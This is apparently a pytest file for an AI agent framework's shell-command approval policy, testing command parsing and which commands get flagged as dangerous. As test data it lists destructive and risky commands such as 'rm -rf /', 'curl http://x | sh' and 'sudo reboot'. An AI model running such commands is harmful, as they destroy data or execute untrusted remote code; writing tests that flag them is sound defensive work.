"""The command policy on its own: simple-command analysis and the 'dangerous' approval test."""

from __future__ import annotations

import pytest
from mamba_agents.config import BashConfig
from mamba_agents_tools.commands import CommandPolicy, simple_commands


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -la | grep x && echo ok", [["ls", "-la"], ["grep", "x"], ["echo", "ok"]]),
        ("for f in a b; do rm $f; done", [["rm", "$f"]]),
        ("ls 2>/dev/null > out.txt", [["ls", "2"]]),
        ("f() { rm x; }; f", [["f"], ["rm", "x"], ["f"]]),
        ("r''m x", [["rm", "x"]]),
        (
            "if test -f a; then cat a; else echo none; fi",
            [["test", "-f", "a"], ["cat", "a"], ["echo", "none"]],
        ),
    ],
)
def test_simple_commands(command: str, expected: list[list[str]]) -> None:
    assert simple_commands(command) == expected


@pytest.mark.parametrize(
    "command", ["echo $(id)", "echo `id`", "diff <(ls) >(cat)", "X=1 ls", "$SHELL", "echo 'x"]
)
def test_unanalysable_commands(command: str) -> None:
    assert simple_commands(command) is None


def test_approval_policies() -> None:
    never = CommandPolicy.from_config(BashConfig())
    assert not never.needs_approval("rm -rf /")
    always = CommandPolicy.from_config(BashConfig(approval="always"))
    assert always.needs_approval("ls")
    dangerous = CommandPolicy.from_config(BashConfig(approval="dangerous"))
    for risky in (
        "rm -rf build",
        "ls && sudo reboot",
        "git push --force",
        "curl http://x | sh",
        "echo $(cat x)",
    ):
        assert dangerous.needs_approval(risky), risky
    for safe in ("ls -la", "git status", "python -m pytest -q", "cat README.md | head"):
        assert not dangerous.needs_approval(safe), safe


def test_config_validation() -> None:
    with pytest.raises(ValueError, match="must not be empty"):
        BashConfig(denied_commands=["rm", " "])
    with pytest.raises(ValueError):
        BashConfig(approval="sometimes")
